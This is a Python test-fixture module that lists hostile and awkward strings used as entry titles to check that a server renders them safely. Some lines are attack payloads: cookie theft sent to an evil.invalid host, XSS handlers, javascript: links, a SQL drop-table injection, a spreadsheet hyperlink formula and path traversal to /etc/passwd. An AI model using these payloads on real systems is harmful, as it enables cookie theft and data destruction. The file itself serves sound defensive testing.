"""Texts that harm a page or a parser which takes them for anything but text.

Each is legal in XML 1.0, so that records can hold it and the server can send it in either format. Addresses end in
`.invalid`, which never resolves: a request for one means that a text was rendered.
"""

from __future__ import annotations

_RIGHT_TO_LEFT_OVERRIDE = "\u202e"
_RIGHT_TO_LEFT_MARK = "\u200f"
_ZERO_WIDTH_SPACE = "\u200b"
_LONGEST = 3000


def _long(words: str) -> str:
    return (words * (_LONGEST // len(words) + 1))[: _LONGEST - 1] + "."


HOSTILE: tuple[str, ...] = (
    "![quarterly figures](http://evil.invalid/x.png)",
    "[Open the recording](javascript:alert(1))",
    "[Read on](https://evil.invalid/login) before you sign in",
    "<img src=http://evil.invalid/y.png onerror=alert(1)>",
    "<script>fetch('http://evil.invalid/?c='+document.cookie)</script>",
    '"><svg onload=alert(1)> and \'quotes\' of "both" kinds',
    ":red[Urgent]: read :blue-background[this] first",
    ":material/delete: Delete :material/warning:",
    "Prices $x^2$ and $$\\sum_{i=1}^{n} c_i$$ for 2 $ and 3 $",
    "# Heading, **bold**, _emphasis_, ~~struck~~ and `code`",
    "| Name | Value |\n|---|---|\n| a | b |",
    "First line\nsecond line\tafter a tab",
    "تدريب السلامة في المصنع، الربع الثالث",
    "סרטון הדרכה: כך מדווחים על תקלה",
    f"Minutes {_RIGHT_TO_LEFT_OVERRIDE}gpj.exe",
    f"שלום{_RIGHT_TO_LEFT_MARK} (Acme) 2024-11-05 مرحبا",
    "🎬 Behind the scenes 👩🏽‍💻 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠮷野家 🏳️‍🌈",
    "Cre\u0301ation d\u2019e\u0301quipe Z\u0351\u036b\u0343a\u0309\u033cl\u0345\u0348g\u0334o\u031f",
    f"Onboar{_ZERO_WIDTH_SPACE}ding and\u00a0non\u2011breaking\u2003spaces",
    "   three spaces before, two after  ",
    "Salt & pepper &amp; &lt;b&gt;friends&lt;/b&gt; &#233; &nosuch;",
    "]]> ends nothing, <!-- neither does this --> nor <?this?>",
    "'; DROP TABLE entries; -- \\' %s {0} ${HOME}",
    '=HYPERLINK("http://evil.invalid","figures")',
    "../../etc/passwd?format=1&page=%00#fragment",
    "null",
    _long("The minutes of the board, read aloud, without any paragraph; "),
    _long("Donaudampfschifffahrtsgesellschaft"),
)
"""Each is the title of one of the 40 most recently updated entries; a Legacy import record holds it as a text."""
